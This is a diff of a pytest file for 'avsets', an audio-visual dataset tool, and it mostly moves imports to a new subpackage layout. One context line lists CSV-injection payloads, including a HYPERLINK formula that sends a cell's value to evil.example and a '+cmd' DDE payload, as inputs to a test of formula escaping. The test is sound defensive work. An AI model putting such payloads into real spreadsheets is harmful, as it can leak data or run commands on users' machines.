@@ -24,12 +24,12 @@ import pytest
 from huggingface_hub import DatasetCard
 from test_publish_support import as_dict, corpus_rows, make_dataset
 
-from avsets.csvsafe import safe_cell
-from avsets.manifest import Manifest, compare, read_id_sets, write_segments_csv
-from avsets.publish.export import export_dataset
-from avsets.publish.sync import KILL_ENV
-from avsets.publish.sync_local import prune_export
-from avsets.publish.takedowns import (
+from avsets.core.csvsafe import safe_cell
+from avsets.metadata.manifest import Manifest, compare, read_id_sets, write_segments_csv
+from avsets.ops.publish.export import export_dataset
+from avsets.ops.publish.sync import KILL_ENV
+from avsets.ops.publish.sync_local import prune_export
+from avsets.ops.publish.takedowns import (
     TAKEDOWNS_FILE,
     Removed,
     read_takedown_list,
@@ -39,7 +39,7 @@ from avsets.publish.takedowns import (
 
 
 def _avsets(*args: str) -> int:
-    from avsets.cli import main
+    from avsets.cli.app import main
 
     return main(list(args))
 
@@ -63,8 +63,8 @@ def _export(rows: list[dict], config: str, out: Path, **kw) -> None:
 
 def _killed_prune(folder: Path, listing: Path, step: str) -> None:
     code = textwrap.dedent(f"""
-        from avsets.publish.sync_local import prune_export
-        from avsets.publish.takedowns import read_takedown_list
+        from avsets.ops.publish.sync_local import prune_export
+        from avsets.ops.publish.takedowns import read_takedown_list
         prune_export({str(folder)!r}, read_takedown_list({str(listing)!r}))
     """)
     env = {**os.environ, KILL_ENV: step}
@@ -195,7 +195,7 @@ def test_takedown_by_youtube_id_survives_overwrite_when_new_segments_arrive(two_
 def test_compare_out_writes_times_that_name_the_same_segment(tmp_path, start_ms, end_ms, monkeypatch):
     """Item 9: ``compare --out`` times read back (by fetch and by ``read_id_sets``) name exactly the ids'
     segments, at any magnitude; fetch reads the id first and warns when the columns disagree."""
-    from avsets.fetch.corpus import file_requests
+    from avsets.ops.fetch.corpus import file_requests
 
     clip = f"-abcdefghij_{start_ms}_{end_ms}"  # a YouTube id starting with "-" stays as it is
     path = tmp_path / "both.csv"
@@ -218,7 +218,7 @@ def test_compare_cli_out_round_trips(tmp_path, capsys):
     Manifest({"test": ids + ["zzzzzzzzzzz_0_10000"]}).write(b)
     out = tmp_path / "both.csv"
     assert _avsets("compare", str(a), str(b), "--out", str(out)) == 0
-    from avsets.fetch.corpus import file_requests
+    from avsets.ops.fetch.corpus import file_requests
 
     assert sorted(r.segment.key for r in file_requests(str(out))) == sorted(ids)
     assert compare(read_id_sets(out), read_id_sets(a)).splits[0].only_a == []
@@ -232,7 +232,7 @@ FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"click")', "+cmd|' /C calc'!
 def test_no_csv_we_write_starts_a_cell_with_a_formula(tmp_path, payload):
     """Item 16: takedowns.csv (reason from a takedown list), the segments CSV, verify's missing CSV and the
     report's tables: no cell a spreadsheet would evaluate; ids (even ``-``-led YouTube ids) unchanged."""
-    from avsets.verify import SplitCoverage, write_missing_csv
+    from avsets.ops.verify import SplitCoverage, write_missing_csv
 
     listing = tmp_path / "t.csv"
     with open(listing, "w", newline="") as f:
@@ -265,7 +265,7 @@ def test_cache_fingerprint_sees_subpackages(tmp_path, monkeypatch):
     """Item 18: editing ``sources/keys.py`` (the naming rules that decide cached paths) changes the cache
     fingerprint, like an edit of a top-level module does."""
     import avsets
-    import avsets.api as api
+    import avsets.build.api as api
     from avsets.vggsound.vggsound import VGGSound
 
     pkg = tmp_path / "avsets"
@@ -288,18 +288,18 @@ def test_a_missing_http_client_is_a_named_error_not_missing_media(tmp_path):
         import sys
         sys.modules["aiohttp"] = None  # what a plain install without fsspec[http] had
         import avsets
-        from avsets.errors import MissingDependencyError
+        from avsets.core.errors import MissingDependencyError
         try:
             avsets.load_dataset("vggsound", data_dir=sys.argv[1], media_dir="http://127.0.0.1:9/clips.zip",
                                 split="train", cache_dir=sys.argv[2])
         except MissingDependencyError as e:
             assert "fsspec[http]" in str(e), e
             print("named")
-        from avsets.cli import main
+        from avsets.cli.app import main
         sys.exit(main(["verify", "vggsound", "--data-dir", sys.argv[1], "--media-dir",
                        "http://127.0.0.1:9/clips.zip"]))
     """)
-    from avsets.demo import sample_data_dir
+    from avsets.ops.demo import sample_data_dir
 
     p = subprocess.run([sys.executable, "-c", code, sample_data_dir(), str(tmp_path)], capture_output=True,
                        text=True, timeout=300, env={**os.environ, "HF_HUB_OFFLINE": "1"})
@@ -326,7 +326,7 @@ def test_core_install_check_script_runs():
 def test_takedown_list_errors_name_the_file_and_speak_of_takedowns(tmp_path, content, expect):
     """Friction: prune's messages are about takedown lists (not the metadata loader's "errors='skip'" or
     "unmodified upstream file"); a non-UTF-8 list names the file and line instead of a bare codec error."""
-    from avsets.publish.takedowns import TakedownListError
+    from avsets.ops.publish.takedowns import TakedownListError
 
     f = tmp_path / "list.csv"
     f.write_bytes(content)
@@ -374,9 +374,9 @@ def test_a_row_whose_video_fails_but_audio_decodes_is_kept_in_both_modes(tmp_pat
     decodes: map-style and streaming both keep the row with ``video=None`` and the audio array; a row none of
     whose media decodes is still dropped in streaming (``skip``) and counted."""
     import avsets
-    import avsets.decoding
-    from avsets.synth import write_video
-    from avsets.transform import DECODE_STATS
+    import avsets.media.decoding
+    from avsets.build.transform import DECODE_STATS
+    from avsets.media.synth import write_video
     from avsets.vggsound.metadata import label_list
 
     meta, media = tmp_path / "meta", tmp_path / "media"
@@ -387,7 +387,7 @@ def test_a_row_whose_video_fails_but_audio_decodes_is_kept_in_both_modes(tmp_pat
     (meta / "vggsound.csv").write_text(f'goodvideo01,0,"{name}",train\nbrokenvid02,0,"{name}",train\n')
     write_video(media / "goodvideo01_000000.mp4", seconds=10.0, size=(32, 24))
     (media / "brokenvid02_000000.mp4").write_bytes(b"\x00\x00\x00\x18ftypmp42" + b"not media" * 200)
-    monkeypatch.setattr(avsets.decoding.video, "MAX_VIDEO_BYTES", 10_000)  # 50 frames of 32x24 RGB exceed it
+    monkeypatch.setattr(avsets.media.decoding.video, "MAX_VIDEO_BYTES", 10_000)  # 50 frames of 32x24 RGB exceed it
     kw = dict(split="train", data_dir=str(meta), media_dir=str(media), num_frames=50, on_missing="skip")
     with pytest.warns(avsets.MediaWarning):
         mapped = avsets.load_dataset("vggsound", cache_dir=str(tmp_path / "c"), **kw)
@@ -405,8 +405,8 @@ def test_decode_stats_count_streaming_rows_dropped_for_missing_media(tmp_path, v
     """Friction: ``DECODE_STATS.dropped`` counts the streaming rows left out because their media is missing
     (``on_missing="skip"``), per epoch, as the README says; map-style prepare counts nothing there."""
     import avsets
-    from avsets.synth import write_audio
-    from avsets.transform import DECODE_STATS
+    from avsets.build.transform import DECODE_STATS
+    from avsets.media.synth import write_audio
     from avsets.vggsound.metadata import label_list
 
     meta, media = tmp_path / "meta", tmp_path / "media"
